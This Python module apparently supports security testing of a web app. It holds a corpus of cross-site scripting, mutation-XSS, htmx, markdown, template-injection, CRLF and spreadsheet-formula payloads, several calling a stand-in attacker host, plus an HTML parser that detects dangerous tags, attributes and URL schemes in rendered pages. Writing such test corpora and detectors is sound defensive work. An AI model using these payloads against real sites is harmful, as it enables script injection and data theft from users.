"""Hostile words in the manner of many known attacks, and a detector of what they would do to a page."""

from collections.abc import Callable, Iterable
from html.parser import HTMLParser
from itertools import cycle
from urllib.parse import urlsplit

BREAKOUT = "\"'></title></textarea></script><script>hit()</script><img src=x onerror=hit()>"

ELEMENTS = (
    "<script>hit()</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()//",
    "<body onload=hit()>",
    "<svg onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "<?xml version='1.0'><img src=x onerror=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<table background=//evil.example/x><td>x</table>",
    "<img srcset='//evil.example/x 1x'>",
    "<img src='//evil.example/?",
    "<a ping=//evil.example/ href=/>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "<button formaction=javascript:hit()>x</button>",
    "<template><script>hit()</script></template>",
    "<p\x0conclick=hit()>x</p>",
)
ATTRIBUTES = (
    '" onmouseover=hit() x="',
    "' autofocus onfocus=hit() x='",
    "x onclick=hit()",
    '"><b onclick=hit()>x</b>',
)
HTMX = (
    "<b hx-get=//evil.example/ hx-trigger=load>x</b>",
    "<b data-hx-post=/sign-out data-hx-trigger=load>x</b>",
    "<b hx-on:click=hit() hx-on::load=hit()>x</b>",
    "<b hx-vals='js:{a:hit()}' hx-get=/ hx-trigger=load>x</b>",
    "<b id=main hx-swap-oob=true>x</b>",
    "<b hx-ext=sse sse-connect=//evil.example/>x</b>",
)
MARKDOWN = (
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](java&#10;script:hit())",
    "[x](&#x6A;avascript:hit())",
    "[x](javascript&colon;hit())",
    "[x](\u0001javascript:hit())",
    "[x](javascript\u200b:hit())",
    "[x](vbscript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](<javascript:hit()>)",
    "<javascript:hit()>",
    "![x](//evil.example/x.png)",
    "[x]: javascript:hit()\n\n[x]",
    "[x](/ \"t' onclick=hit() x='\")",
    '```x" onclick=hit() x="\nx\n```',
)
TEXTS = (
    "{{7919*104729}}",
    "${7919*104729}",
    "%s %(name)s %n {0} {name}",
    "\u202eltr\u202d",
    "nul\x00nul",
    "\x1b[31m\x08",
    '=HYPERLINK("//evil.example")',
    "x\r\nBcc: evil@evil.example",
    "&lt;script&gt;hit()&lt;/script&gt;",
)
MARKUP = (BREAKOUT, *ELEMENTS, *HTMX)  # what does harm where a page takes it for its own
ALL = (*MARKUP, *ATTRIBUTES, *MARKDOWN, *TEXTS)

_FORBIDDEN = """
iframe frame frameset object embed applet base math noscript style template image img picture video audio
source track portal marquee xmp plaintext listing animate set foreignobject handler
"""
_ADDRESSES = "href src action formaction data poster cite xlink:href hx-get hx-post hx-put hx-patch hx-delete"
_NEVER = "style srcdoc srcset ping background hx-ext hx-vals hx-headers hx-swap-oob"
FORBIDDEN = frozenset(_FORBIDDEN.split())
ADDRESSES = frozenset(_ADDRESSES.split())
NEVER = frozenset(_NEVER.split())
SCHEMES = frozenset(("", "http", "https", "mailto"))


def words(vectors: Iterable[str] = ALL) -> Callable[[int], str]:
    """A source of texts of at most some length, each with as many of the vectors as fit, all in turn."""
    turn = cycle(vectors)
    longest = max(map(len, vectors))

    def of(limit: int) -> str:
        text = "x"  # so that what is taken away is not all
        for _ in vectors:
            vector = next(turn)
            if len(text) + len(vector) + 2 <= limit:
                text += f"\n\n{vector}" if limit > 5 * longest else f" {vector}"
            elif len(text) > limit / 2:
                break
        return text

    return of


def dangers(page: str) -> list[str]:
    """What in the markup of a page is not of our making and could act; empty where all is well."""
    detector = _Detector()
    detector.feed(page)
    detector.close()
    if "829348951" in page:
        detector.found.append("a template was executed")
    detector.found += [f"{char!r} in the page" for char in "\u202d\u202e\x00\x1b" if char in page]
    return detector.found


class _Detector(HTMLParser):
    """Looks at every tag as a browser would read it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        own = dict(attrs)
        if tag in FORBIDDEN or (tag == "meta" and "http-equiv" in own):
            self.found.append(self.get_starttag_text() or tag)
        if tag in {"script", "link"} and not (own.get("src") or own.get("href") or "").startswith("/static/"):
            self.found.append(self.get_starttag_text() or tag)
        if tag == "use" and (set(own) & {"xlink:href"} or not (own.get("href") or "").startswith("#")):
            self.found.append(self.get_starttag_text() or tag)  # our pictures repeat shapes of their own page
        for name, value in attrs:
            if _is_danger(name.removeprefix("data-"), value or "", leads=tag == "a"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data: str) -> None:
        """Our pages have none; readers of HTML do not agree where one ends."""
        self.found.append(f"a comment: {data}")

    handle_startendtag = handle_starttag
    handle_pi = unknown_decl = handle_comment


def _is_danger(name: str, value: str, *, leads: bool) -> bool:
    if name.startswith(("on", "hx-on", "sse-", "ws-")) or name in NEVER:
        return True
    if name in ADDRESSES:
        return not _is_tame(value, leads=leads and name == "href")
    return name.startswith("hx-") and any(word in value for word in ("hit", "evil", "load"))


def _is_tame(address: str, *, leads: bool) -> bool:
    """Whether an address stays here; that of a link may lead to the web or a mailbox."""
    plain = "".join(char for char in address if char > " ")
    try:
        parts = urlsplit(plain)
    except ValueError:
        return False
    elsewhere = not leads and "evil.example" in parts.netloc
    return parts.scheme.lower() in SCHEMES and "\\" not in plain and not elsewhere
